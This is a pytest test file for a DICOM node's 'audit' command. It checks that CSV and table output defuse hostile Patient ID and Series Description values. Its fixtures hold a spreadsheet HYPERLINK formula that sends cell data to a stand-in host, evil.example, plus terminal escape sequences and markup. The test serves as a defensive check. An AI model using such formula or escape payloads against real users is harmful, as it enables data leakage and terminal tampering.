"""What `dicomnode audit` writes from DICOM headers a sender controls: CSV cells a spreadsheet will not run
as formulas, and terminal output with no escape sequences and no rich markup taken from the data."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from pydicom import dcmread
from pydicom.uid import generate_uid

from tests.conftest import LIDC_SERIES, REPO_ROOT
from tests.node.conftest import node_config
from tests.node.helpers import NodeProcess, storescu, wait_for

pytestmark = pytest.mark.one_receiver  # receiving is not this file's subject (tests/conftest.py)

PATIENT_ID = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
DESCRIPTION = "\x1b]0;owned\x07\x1b[2J@SUM(1+1)[red]X[/]"


@pytest.fixture
def hostile_node(tmp_path: Path) -> Iterator[NodeProcess]:
    """A node that has received a series whose Patient ID and Series Description are hostile."""
    files = []
    series_uid = generate_uid()
    for path in sorted(LIDC_SERIES.iterdir())[:3]:
        ds = dcmread(path)
        ds.PatientID = PATIENT_ID
        ds.SeriesDescription = DESCRIPTION
        ds.SeriesInstanceUID = series_uid
        ds.SOPInstanceUID = ds.file_meta.MediaStorageSOPInstanceUID = generate_uid()
        files.append(tmp_path / path.name)
        ds.save_as(files[-1], enforce_file_format=True)
    node = NodeProcess(tmp_path / "node", node_config(stable=60)).start()
    try:
        storescu(node.port, files)
        wait_for(lambda: node.audit("series"), 30, "the series row")
        yield node
    finally:
        node.stop()


def audit(node: NodeProcess, fmt: str) -> str:
    # a wide table, whatever the runner's COLUMNS: the column under test must not be left out for width
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT), "COLUMNS": "250"}
    result = subprocess.run([sys.executable, "-m", "dicomnode.cli", "audit", "series", "--config", str(node.config),
                             "--data-dir", str(node.data_dir), "--format", fmt],
                            cwd=REPO_ROOT, capture_output=True, text=True, env=env, timeout=60)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_audit_csv_and_table_do_not_pass_on_hostile_header_values(hostile_node: NodeProcess) -> None:
    (row,) = hostile_node.audit("series")  # the database keeps the values as received
    assert row["patient_id"] == PATIENT_ID and row["series_description"] == DESCRIPTION
    as_csv = audit(hostile_node, "csv")
    (cells,) = list(csv.DictReader(io.StringIO(as_csv)))
    assert cells["patient_id"] == "'" + PATIENT_ID  # shown as text by Excel/LibreOffice, never run
    assert not cells["series_description"].startswith(("=", "+", "-", "@", "\t", "\r", "\x1b"))
    assert "\x1b" not in as_csv and "\x07" not in as_csv
    assert cells["series_instance_uid"] == row["series_instance_uid"]  # ordinary values are untouched
    table = audit(hostile_node, "table")
    assert "\x1b" not in table and "\x07" not in table  # no escape sequence reaches the terminal
    assert column_text(table, "series_description").endswith("@SUM(1+1)[red]X[/]")  # markup shown, not run


def column_text(table: str, name: str) -> str:
    """One column of a rich table as printed, its folded lines joined again."""
    header_rows = [line.split("┃")[1:-1] for line in table.splitlines() if "┃" in line]
    headers = ["".join(row[i].strip() for row in header_rows) for i in range(len(header_rows[0]))]
    index = headers.index(name)
    return "".join(line.split("│")[1:-1][index].strip() for line in table.splitlines() if "│" in line)
